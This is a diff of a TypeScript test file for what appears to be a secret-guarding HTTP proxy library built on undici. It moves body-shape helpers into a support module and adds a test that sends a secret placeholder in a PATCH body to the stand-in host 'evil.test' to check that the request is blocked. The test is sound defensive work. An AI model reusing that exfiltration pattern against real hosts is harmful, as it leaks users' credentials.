@@ -7,10 +7,11 @@
  */
 import { EgressRefused, SubstitutionBlocked } from "@secretgate/undici"
 import { Buffer } from "node:buffer"
-import { Readable, Stream, Writable } from "node:stream"
+import { Writable } from "node:stream"
 import { gzipSync } from "node:zlib"
 import { type Dispatcher, fetch as undiciFetch, FormData as UndiciFormData, request, stream } from "undici"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { arrayBufferOf, SHAPES } from "./support/bodyShapes.js"
 import { last, makeWorld, type World } from "./support/fixture.js"
 import { type RawTls, startRawTls } from "./support/rawServer.js"
 import { plainAgent } from "./support/upstream.js"
@@ -27,132 +28,6 @@ afterAll(async () => {
 })
 
 const VALUE = "sk-live-B0dyShap3s"
-
-/** A body shape: how to make it from text, and what plain undici does with it through `request`. */
-interface Shape {
-  readonly name: string
-  readonly make: (text: string) => unknown
-  /** Whether plain undici sends it (`false`: it fails; secretgate sends what `fetch` would). */
-  readonly plainSends: boolean
-  /** Whether its bytes are all known before it is sent (checked whole, under `block`). */
-  readonly known: boolean
-}
-
-const bytesOf = (text: string) => Buffer.from(text, "utf8")
-
-/** An `ArrayBuffer` holding exactly the text's bytes. */
-const arrayBufferOf = (text: string): ArrayBuffer => {
-  const bytes = bytesOf(text)
-  const buffer = new ArrayBuffer(bytes.length)
-  new Uint8Array(buffer).set(bytes)
-  return buffer
-}
-
-/** A legacy stream (`pipe`/`on`, no async iterator) that emits its chunks once someone listens. */
-const legacyStream = (chunks: ReadonlyArray<string>): Stream => {
-  const legacy = new Stream() as Stream & { readable: boolean }
-  legacy.readable = true
-  let started = false
-  legacy.on("newListener", (event: string) => {
-    if (event !== "data" || started) return
-    started = true
-    setImmediate(() => {
-      for (const chunk of chunks) legacy.emit("data", Buffer.from(chunk))
-      legacy.emit("end")
-      legacy.emit("close")
-    })
-  })
-  return legacy
-}
-
-const halves = (text: string): [string, string] => [text.slice(0, 11), text.slice(11)]
-
-const SHAPES: ReadonlyArray<Shape> = [
-  { name: "string", make: (text) => text, plainSends: true, known: true },
-  { name: "Buffer", make: bytesOf, plainSends: true, known: true },
-  { name: "Uint8Array", make: (text) => new Uint8Array(bytesOf(text)), plainSends: true, known: true },
-  { name: "Uint16Array", make: (text) => new Uint16Array(arrayBufferOf(text)), plainSends: true, known: true },
-  { name: "DataView", make: (text) => new DataView(arrayBufferOf(text)), plainSends: true, known: true },
-  { name: "ArrayBuffer", make: arrayBufferOf, plainSends: true, known: true },
-  { name: "Readable", make: (text) => Readable.from(halves(text).map(bytesOf)), plainSends: true, known: false },
-  { name: "legacy stream (pipe/on, no async iterator)", make: (text) => legacyStream(halves(text)), plainSends: true, known: false },
-  { name: "Blob", make: (text) => new Blob([text]), plainSends: true, known: true },
-  { name: "File", make: (text) => new File([text], "upload.txt"), plainSends: true, known: true },
-  {
-    name: "Blob-like with only arrayBuffer()",
-    make: (text) => ({ [Symbol.toStringTag]: "Blob", size: bytesOf(text).length, type: "", arrayBuffer: () => Promise.resolve(arrayBufferOf(text)) }),
-    plainSends: true,
-    known: true
-  },
-  {
-    name: "Blob-like with only stream()",
-    make: (text) => ({ [Symbol.toStringTag]: "Blob", size: bytesOf(text).length, type: "", stream: () => Readable.from(halves(text).map(bytesOf)) }),
-    plainSends: true,
-    known: true
-  },
-  {
-    name: "undici FormData",
-    make: (text) => {
-      const form = new UndiciFormData()
-      form.append("field", text)
-      form.append("file", new File([text], "f.txt", { type: "text/plain" }))
-      return form
-    },
-    plainSends: true,
-    known: true
-  },
-  {
-    name: "Node's global FormData",
-    make: (text) => {
-      const form = new FormData()
-      form.append("field", text)
-      form.append("file", new Blob([text], { type: "text/plain" }), "f.txt")
-      return form
-    },
-    plainSends: false,
-    known: true
-  },
-  { name: "URLSearchParams", make: (text) => new URLSearchParams({ field: text }), plainSends: false, known: true },
-  {
-    name: "async generator",
-    make: (text) => (async function*() {
-      for (const part of halves(text)) yield bytesOf(part)
-    })(),
-    plainSends: true,
-    known: false
-  },
-  {
-    name: "sync generator of strings",
-    make: (text) => (function*() {
-      yield* halves(text)
-    })(),
-    plainSends: true,
-    known: false
-  },
-  { name: "array of a string and bytes", make: (text) => [halves(text)[0], bytesOf(halves(text)[1])], plainSends: true, known: false },
-  { name: "array of promises", make: (text) => halves(text).map((part) => Promise.resolve(bytesOf(part))), plainSends: true, known: false },
-  {
-    name: "web ReadableStream",
-    make: (text) => new ReadableStream({
-      start(controller) {
-        for (const part of halves(text)) controller.enqueue(bytesOf(part))
-        controller.close()
-      }
-    }),
-    plainSends: true,
-    known: false
-  },
-  {
-    name: "function with an async iterator",
-    make: (text) => Object.assign(() => undefined, {
-      async *[Symbol.asyncIterator]() {
-        yield* halves(text).map(bytesOf)
-      }
-    }),
-    plainSends: true,
-    known: false
-  }
-]
 
 type Client = "request" | "stream"
 
@@ -235,6 +110,14 @@ describe("every body shape undici accepts is scanned and substituted", () => {
       expect(received).not.toContain(box.env.KEY)
     })
   }
+
+  it("fetch with a body holding a placeholder blocked there fails with SubstitutionBlocked, and does not hang (found by the fuzzer)", async () => {
+    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
+    for (const body of [`k=${box.env.KEY}`, new DataView(arrayBufferOf(`k=${box.env.KEY}`)), new Blob([`k=${box.env.KEY}`])]) {
+      const error = await undiciFetch(world.https.url("evil.test", "/"), { method: "PATCH", body, dispatcher: box.agent }).then(() => undefined, (e: unknown) => e)
+      expect((error as { cause?: unknown }).cause).toBeInstanceOf(SubstitutionBlocked)
+    }
+  })
 
   it("a dispatcher flagged isMockActive makes fetch pass the body's source itself (a FormData): still substituted", async () => {
     const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
